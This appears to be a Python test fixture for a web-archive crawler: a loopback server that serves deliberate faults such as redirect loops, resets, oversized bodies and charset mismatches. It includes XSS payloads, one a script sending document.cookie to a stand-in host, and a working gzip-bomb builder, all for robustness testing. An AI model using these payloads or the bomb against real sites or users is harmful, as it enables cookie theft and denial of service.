"""A hostile portal on 127.0.0.1: every fault the archive must survive, served on purpose and
counted, so a crawl of it can be checked against what was injected.

The portal is generated, not read from ``sample_portals/``: a home page, numbered listing
pages (``/tin-tuc?trang=N``) and, shuffled among them by a seed, ordinary articles
(``/bai-viet/N``) and fault URLs (``/loi/<fault>/N``). ``robots.txt`` disallows ``/quan-tri/``
(linked from every listing) and ``/dang-nhap`` (where the login wall redirects).

Crawl it as an unknown portal under a reserved name (RFC 2606 ``.test``), so nothing could
leave this machine even by mistake::

    server = FaultPortal(articles=50, each=2).start()
    district-archive crawl --start-url http://hostile-portal.test/ \\
        --resolve hostile-portal.test=<server.base_url>

``FAULTS`` says what each fault does and what the archive must end up with; the tests
(``tests/test_faults.py``), the soak run (``bench/soak.py``) and ``docs/reliability.md`` hold
the crawler to it. ``injected`` counts, per fault, the distinct URLs the server answered with it.
"""
from __future__ import annotations

import functools
import html
import http.server
import random
import socket
import struct
import threading
import time
import zlib
from collections import Counter, defaultdict
from dataclasses import dataclass
from typing import Any, Self
from urllib.parse import parse_qs, urlsplit

from district_archive.portals import loopback
from district_archive.portals.encodings import to_cp1258

PORTAL_HOST = "hostile-portal.test"  # what the crawl calls the fault portal (--resolve it)
OFFSITE_URL = "http://elsewhere.test"  # where the offsite redirects point


@dataclass(frozen=True)
class Fault:
    name: str
    does: str  # what the server does
    outcome: str  # "failed": pages row with error | "archived": a stored 200 | "not fetched"


FAULTS: dict[str, Fault] = {f.name: f for f in [
    Fault("http-500", "answers 500 Internal Server Error, every time", "failed"),
    Fault("http-503", "answers 503 Service Unavailable with Retry-After: 1, every time", "failed"),
    Fault("http-429", "answers 429 Too Many Requests with Retry-After: 1, every time", "failed"),
    Fault("flaky-503", "answers 503 with Retry-After: 1 once, then the article", "archived"),
    Fault("flaky-reset", "resets the connection once, then serves the article", "archived"),
    Fault("timeout", "reads the request and never answers", "failed"),
    Fault("reset", "reads the request, then resets the connection (TCP RST)", "failed"),
    Fault("truncated", "declares Content-Length: N, sends N/4 bytes and closes", "failed"),
    Fault("trickle", "sends the headers, then one byte of body every 0.2 s, without end",
          "failed"),
    Fault("redirect-loop", "302 from a to b and from b back to a", "failed"),
    Fault("redirect-chain", "302 to a new URL of its own, without end", "failed"),
    Fault("redirect-offsite", f"302 to another host ({OFFSITE_URL})", "failed"),
    Fault("retry-offsite", "503 once, then 302 to another host (a retried request)", "failed"),
    Fault("refresh-offsite", f"an article whose <meta http-equiv=refresh> points to {OFFSITE_URL}",
          "archived"),
    Fault("refresh-self", "an article whose <meta http-equiv=refresh> points to itself",
          "archived"),
    Fault("refresh-javascript", "an article whose <meta http-equiv=refresh> is a javascript: URL",
          "archived"),
    Fault("huge", "declares a Content-Length of 1 GiB and starts sending it", "failed"),
    Fault("huge-stream", "streams a chunked body with no Content-Length, without end", "failed"),
    Fault("gzip-bomb", "Content-Encoding: gzip, 1 MiB on the wire that inflates to 1 GiB",
          "failed"),
    Fault("binary", "random bytes (NULs included) labelled text/html; charset=utf-8", "archived"),
    Fault("charset-header-lies", "a UTF-8 article whose header says charset=iso-8859-1",
          "archived"),
    Fault("charset-legacy", "a windows-1258 article whose header says charset=utf-8", "archived"),
    Fault("login-redirect", "302 to /dang-nhap?ReturnUrl=… (robots.txt disallows /dang-nhap)",
          "failed"),
    Fault("login-401", "401 Unauthorized with WWW-Authenticate: Basic", "failed"),
    Fault("hostile-html", "an article with <script>, onerror= and javascript: links",
          "archived"),
    Fault("robots-disallowed", "a link into /quan-tri/, which robots.txt disallows",
          "not fetched"),
]}

ROBOTS_TXT = b"User-agent: *\nDisallow: /quan-tri/\nDisallow: /dang-nhap\n"

_PHRASES = [
    "UBND huyện hỗ trợ {n} hộ gia đình với tổng kinh phí {m},5 triệu đồng.",
    "Tỷ lệ hộ nghèo giảm còn {p},4%, đạt kế hoạch đề ra.",
    "Theo Kế hoạch số {n}/KH-UBND ngày 12/3/2024 của UBND huyện, {m} xã tham gia.",
    "Hơn {n} lượt người dân được khám sàng lọc miễn phí.",
    "Toàn huyện gieo cấy {n} ha lúa vụ xuân, năng suất ước đạt {p} tạ/ha.",
]


def article_html(number: int, extra: str = "", charset: str = "utf-8") -> str:
    """An ordinary district article, deterministic in ``number``."""
    rng = random.Random(number)
    title = f"Huyện Kiến Thụy triển khai nhiệm vụ số {number}"
    paragraphs = [rng.choice(_PHRASES).format(n=rng.randint(2, 999), m=rng.randint(2, 90),
                                             p=rng.randint(1, 60)) for _ in range(4)]
    body = "\n".join(f"<p>{html.escape(p)} Nội dung chi tiết của bài viết số {number} được "
                     "đăng tải để người dân theo dõi và thực hiện.</p>" for p in paragraphs)
    return (f'<!DOCTYPE html><html lang="vi"><head><meta charset="{charset}">'
            f"<title>{title}</title></head><body>"
            '<div class="header"><a href="/">Trang chủ</a> <a href="/tin-tuc?trang=1">Tin tức</a>'
            "</div><div class=\"main\"><article>"
            f'<h1 class="title">{title}</h1><div class="date">Ngày đăng: 12/03/2024 08:30</div>'
            f'<div class="content">{body}{extra}</div></article></div>'
            '<div class="footer">Cổng thông tin điện tử huyện Kiến Thụy</div></body></html>')


HOSTILE_EXTRA = (
    '<p>Ảnh hoạt động <img src="/x.png" onerror="alert(document.cookie)"></p>'
    '<script>document.location="http://elsewhere.test/steal?c="+document.cookie</script>'
    '<p><a href="javascript:alert(1)">Xem thêm</a> và '
    '<a href="JaVaScRiPt:alert(2)" onclick="alert(3)">tải về</a></p>'
    '<iframe src="javascript:alert(4)"></iframe>'
    '<p style="background:url(javascript:alert(5))">Kết thúc bài viết.</p>'
)


@functools.lru_cache(maxsize=4)
def gzip_bomb(inflated: int) -> bytes:
    """A valid gzip member that inflates to ``inflated`` zero bytes (multiple of 1 MiB).

    After a full flush, deflate gives the same bytes for every further MiB of zeros, so the
    bomb is assembled from two compressed blocks instead of compressing 1 GiB.
    """
    mib = 1 << 20
    blocks = max(1, inflated // mib)
    zeros = bytes(mib)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    repeat = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.flush()
    crc = 0
    for _ in range(blocks):
        crc = zlib.crc32(zeros, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = struct.pack("<II", crc, (blocks * mib) & 0xFFFFFFFF)
    return b"".join([header, first, repeat * (blocks - 1), tail, trailer])


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _FaultHTTPServer
    protocol_version = "HTTP/1.1"
    server_version = "DistrictNewsArchiveFaults/1"
    hit = 0  # how often the fault URL being answered has been requested, this one included

    def do_GET(self) -> None:
        portal = self.server.portal
        parts = urlsplit(self.path)
        path, query = parts.path, parse_qs(parts.query)
        portal.record(self.path)
        if path == "/robots.txt":
            return self._send(200, ROBOTS_TXT, "text/plain; charset=utf-8")
        if path == "/":  # every listing page, like a portal's archive index: all at depth 1
            pages = range(1, -(-len(portal.links) // portal.per_page) + 1)
            return self._page("Cổng thông tin điện tử (thử lỗi)", "".join(
                f'<a href="/tin-tuc?trang={n}">Tin tức - Sự kiện, trang {n}</a> ' for n in pages))
        if path == "/tin-tuc":
            return self._listing(int((query.get("trang") or ["1"])[0]))
        if path.startswith("/bai-viet/"):
            return self._send(200, article_html(_number(path)).encode(), "text/html; charset=utf-8")
        if path.startswith("/loi/"):
            _, _, name, number = path.split("/", 3)
            if name in FAULTS:
                self.hit = portal.inject(name, path)  # 1 on the first request for this URL
                return getattr(self, "fault_" + name.replace("-", "_"))(path, _number(number),
                                                                         query)
        self._send(404, b"Not Found", "text/plain; charset=utf-8")

    # -- plumbing ------------------------------------------------------------------------------

    def _send(self, status: int, body: bytes, content_type: str,
              headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for key, value in (headers or {}).items():
            self.send_header(key, value)
        self.end_headers()
        self._write(body)

    def _write(self, data: bytes) -> bool:
        try:
            self.wfile.write(data)
            self.wfile.flush()
        except OSError:  # the client hung up: what a size cap or a timeout should do
            self.close_connection = True
            return False
        self.server.portal.count_sent(self.path, len(data))
        return True

    def _redirect(self, location: str, status: int = 302) -> None:
        self._send(status, b"", "text/html; charset=utf-8", {"Location": location})

    def _page(self, title: str, links: str) -> None:
        body = (f'<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>{title}'
                f"</title></head><body><h1>{title}</h1>{links}</body></html>")
        self._send(200, body.encode(), "text/html; charset=utf-8")

    def _listing(self, page: int) -> None:
        portal = self.server.portal
        chunk = portal.links[(page - 1) * portal.per_page: page * portal.per_page]
        items = "".join(f'<li><a href="{href}">Bài viết {href.rsplit("/", 1)[-1]}</a></li>'
                        for href in chunk)
        more = (f'<a href="/tin-tuc?trang={page + 1}">Trang sau</a>'
                if page * portal.per_page < len(portal.links) else "")
        self._page(f"Tin tức - Sự kiện, trang {page}", f"<ul>{items}</ul>{more}")

    def _hang_up(self, reset: bool) -> None:
        """Close the connection without an answer; ``reset`` sends a TCP RST instead of FIN."""
        if reset:
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                       struct.pack("ii", 1, 0))
        else:
            try:
                self.connection.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        self.close_connection = True
        self.connection.close()

    def _stream(self, chunks: int, chunk: bytes, interval: float = 0.0,
                chunked: bool = False) -> None:
        """Send ``chunk`` up to ``chunks`` times until the client hangs up or the server stops."""
        stop = self.server.portal.stopping
        for _ in range(chunks):
            data = b"%x\r\n%s\r\n" % (len(chunk), chunk) if chunked else chunk
            if stop.is_set() or not self._write(data):
                break
            if interval and stop.wait(interval):
                break
        self.close_connection = True

    # -- the faults (one method each, named after FAULTS) ---------------------------------------

    def fault_http_500(self, path: str, n: int, query: dict) -> None:
        self._send(500, b"<h1>Internal Server Error</h1>", "text/html; charset=utf-8")

    def fault_http_503(self, path: str, n: int, query: dict) -> None:
        self._send(503, b"<h1>Service Unavailable</h1>", "text/html; charset=utf-8",
                   {"Retry-After": "1"})

    def fault_http_429(self, path: str, n: int, query: dict) -> None:
        self._send(429, b"<h1>Too Many Requests</h1>", "text/html; charset=utf-8",
                   {"Retry-After": "1"})

    def fault_flaky_503(self, path: str, n: int, query: dict) -> None:
        if self.hit == 1:
            return self._send(503, b"<h1>Busy</h1>", "text/html; charset=utf-8",
                              {"Retry-After": "1"})
        self._send(200, article_html(n).encode(), "text/html; charset=utf-8")

    def fault_flaky_reset(self, path: str, n: int, query: dict) -> None:
        if self.hit == 1:
            return self._hang_up(reset=True)
        self._send(200, article_html(n).encode(), "text/html; charset=utf-8")

    def fault_timeout(self, path: str, n: int, query: dict) -> None:
        self.server.portal.stopping.wait(self.server.portal.stall)
        self._hang_up(reset=False)

    def fault_reset(self, path: str, n: int, query: dict) -> None:
        self._hang_up(reset=True)

    def fault_truncated(self, path: str, n: int, query: dict) -> None:
        body = article_html(n).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self._write(body[: len(body) // 4])
        self._hang_up(reset=False)

    def fault_trickle(self, path: str, n: int, query: dict) -> None:
        portal = self.server.portal
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", "100000")
        self.end_headers()
        self._stream(int(portal.stall / portal.trickle_interval) + 1, b"<",
                     interval=portal.trickle_interval)

    def fault_redirect_loop(self, path: str, n: int, query: dict) -> None:
        self._redirect(path if query.get("vong") else f"{path}?vong=1")

    def fault_redirect_chain(self, path: str, n: int, query: dict) -> None:
        step = int((query.get("buoc") or ["0"])[0])
        self._redirect(f"{path}?buoc={step + 1}")

    def fault_redirect_offsite(self, path: str, n: int, query: dict) -> None:
        portal = self.server.portal
        self._redirect(f"{portal.offsite_url}/bai-viet/{n}")

    def fault_retry_offsite(self, path: str, n: int, query: dict) -> None:
        portal = self.server.portal
        if self.hit == 1:
            return self._send(503, b"<h1>Busy</h1>", "text/html; charset=utf-8",
                              {"Retry-After": "0"})
        self._redirect(f"{portal.offsite_url}/bai-viet/{n}")

    def fault_refresh_offsite(self, path: str, n: int, query: dict) -> None:
        self._refreshing(n, f"{self.server.portal.offsite_url}/bai-viet/{n}")

    def fault_refresh_self(self, path: str, n: int, query: dict) -> None:
        self._refreshing(n, path)

    def fault_refresh_javascript(self, path: str, n: int, query: dict) -> None:
        self._refreshing(n, "javascript:alert(document.cookie)")

    def _refreshing(self, n: int, target: str) -> None:
        """An article whose head asks the browser to go to ``target`` at once."""
        refresh = f'<meta http-equiv="refresh" content="0; url={html.escape(target)}">'
        body = article_html(n).replace("<head>", f"<head>{refresh}", 1).encode()
        self._send(200, body, "text/html; charset=utf-8")

    def fault_huge(self, path: str, n: int, query: dict) -> None:
        portal = self.server.portal
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(portal.huge_bytes))
        self.end_headers()
        self._stream(portal.huge_bytes // len(_CHUNK), _CHUNK)

    def fault_huge_stream(self, path: str, n: int, query: dict) -> None:
        portal = self.server.portal
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        self._stream(portal.huge_bytes // len(_CHUNK), _CHUNK, chunked=True)

    def fault_gzip_bomb(self, path: str, n: int, query: dict) -> None:
        portal = self.server.portal
        self._send(200, gzip_bomb(portal.bomb_bytes), "text/html; charset=utf-8",
                   {"Content-Encoding": "gzip"})

    def fault_binary(self, path: str, n: int, query: dict) -> None:
        body = b"\x00\x01garbage\xff\xfe" + random.Random(n).randbytes(4096)
        self._send(200, body, "text/html; charset=utf-8")

    def fault_charset_header_lies(self, path: str, n: int, query: dict) -> None:
        self._send(200, article_html(n).encode("utf-8"), "text/html; charset=iso-8859-1")

    def fault_charset_legacy(self, path: str, n: int, query: dict) -> None:
        page = article_html(n, charset="windows-1258").replace(
            '<meta charset="windows-1258">', "")
        self._send(200, to_cp1258(page), "text/html; charset=utf-8")

    def fault_login_redirect(self, path: str, n: int, query: dict) -> None:
        self._redirect(f"/dang-nhap?ReturnUrl={path}")

    def fault_login_401(self, path: str, n: int, query: dict) -> None:
        self._send(401, b"<h1>401 Unauthorized</h1>", "text/html; charset=utf-8",
                   {"WWW-Authenticate": 'Basic realm="Quan tri"'})

    def fault_hostile_html(self, path: str, n: int, query: dict) -> None:
        self._send(200, article_html(n, extra=HOSTILE_EXTRA).encode(), "text/html; charset=utf-8")

    def log_message(self, format: str, *args: object) -> None:  # quiet: tests read counters
        pass

    def log_error(self, format: str, *args: object) -> None:
        pass


_CHUNK = b"<p>" + b"x" * (64 * 1024 - 7) + b"</p>"


def _number(text: str) -> int:
    digits = "".join(ch for ch in text.rsplit("/", 1)[-1] if ch.isdigit())
    return int(digits or 0)


class _FaultHTTPServer(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, portal: FaultPortal, port: int):
        self.portal = portal
        super().__init__((loopback.LOOPBACK, port), _Handler)

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # a client that hangs up mid-answer is the point of this server


class FaultPortal:
    """The hostile portal: ``articles`` ordinary articles and ``each`` URLs of every fault
    (or ``counts={name: n}``), shuffled over listing pages of ``per_page`` links by ``seed``.

    ``stall`` bounds how long a timeout or trickle keeps its connection; ``huge_bytes`` how much
    a huge body would send; ``bomb_bytes`` what the gzip bomb inflates to.
    """

    def __init__(self, *, articles: int = 20, each: int = 1, counts: dict[str, int] | None = None,
                 seed: int = 0, per_page: int = 25, stall: float = 30.0,
                 trickle_interval: float = 0.2, huge_bytes: int = 1 << 30,
                 bomb_bytes: int = 1 << 30, offsite_url: str = OFFSITE_URL):
        unknown = set(counts or ()) - set(FAULTS)
        if unknown:
            raise ValueError(f"unknown faults: {', '.join(sorted(unknown))}")
        self.counts = dict.fromkeys(FAULTS, each) if counts is None else dict(counts)
        self.per_page, self.stall, self.trickle_interval = per_page, stall, trickle_interval
        self.huge_bytes, self.bomb_bytes, self.offsite_url = huge_bytes, bomb_bytes, offsite_url
        links = [f"/bai-viet/{i}" for i in range(1, articles + 1)]
        number = articles
        for name, count in self.counts.items():
            for _ in range(count):
                number += 1
                links.append(f"/quan-tri/{number}" if name == "robots-disallowed"
                             else f"/loi/{name}/{number}")
        random.Random(seed).shuffle(links)
        self.links = links
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        self.hits: Counter[str] = Counter()  # request target -> requests
        self.log: list[tuple[float, str]] = []  # (time.monotonic(), request target), in order
        self.sent: Counter[str] = Counter()  # request target -> body bytes written
        self._injected: dict[str, set[str]] = defaultdict(set)
        self._server: _FaultHTTPServer | None = None

    # -- bookkeeping (called from handler threads) ------------------------------------------

    def record(self, target: str) -> None:
        with self._lock:
            self.hits[target] += 1
            self.log.append((time.monotonic(), target))

    def inject(self, fault: str, path: str) -> int:
        """Count one injection of ``fault`` at ``path``; returns how often ``path`` was hit."""
        with self._lock:
            self._injected[fault].add(path)
            return sum(n for target, n in self.hits.items() if urlsplit(target).path == path)

    def count_sent(self, target: str, size: int) -> None:
        with self._lock:
            self.sent[target] += size

    @property
    def injected(self) -> dict[str, int]:
        """Fault name -> distinct URLs (paths) the server answered with that fault."""
        with self._lock:
            return {name: len(paths) for name, paths in self._injected.items()}

    def requested(self, prefix: str) -> list[str]:
        with self._lock:
            return [t for t in self.hits if t.startswith(prefix)]

    # -- running ----------------------------------------------------------------------------

    def start(self, port: int = 0) -> Self:
        if self.counts.get("gzip-bomb"):
            gzip_bomb(self.bomb_bytes)  # built now (about 1 s), not while a client waits
        self._server = _FaultHTTPServer(self, port)
        threading.Thread(target=self._server.serve_forever, name="fault-portal",
                         daemon=True).start()
        return self

    @property
    def base_url(self) -> str:
        assert self._server is not None, "start() the portal first"
        return loopback.base_url(self._server.server_address[1])

    def crawl_args(self, host: str = PORTAL_HOST) -> list[str]:
        """``district-archive crawl`` arguments that crawl this portal as ``http://host/``."""
        return ["--start-url", f"http://{host}/", *loopback.resolve_args({host: self.base_url})]

    def canary_settings(self, canary: FaultPortal, host: str = PORTAL_HOST) -> dict[str, Any]:
        """Scrapy settings (``DISTRICT_ARCHIVE_SETTINGS``) that also send the offsite host to
        ``canary``, where a request that escaped the site would be seen. ``--resolve`` takes
        only hosts the crawl fetches from (anything else is a usage error), so the host the
        crawl must never reach is resolved through the ``RESOLVE`` setting instead."""
        offsite = urlsplit(self.offsite_url).hostname or ""
        return {"RESOLVE": {host: self.base_url, offsite: canary.base_url}}

    def stop(self) -> None:
        self.stopping.set()
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()

    def __enter__(self) -> Self:
        return self if self._server else self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


def fault_of(url: str) -> str | None:
    """The fault a portal URL was built to inject (``/loi/<fault>/N``, ``/quan-tri/N``)."""
    path = urlsplit(url).path
    if path.startswith("/quan-tri/"):
        return "robots-disallowed"
    if path.startswith("/loi/"):
        name = path.split("/")[2]
        return name if name in FAULTS else None
    return None
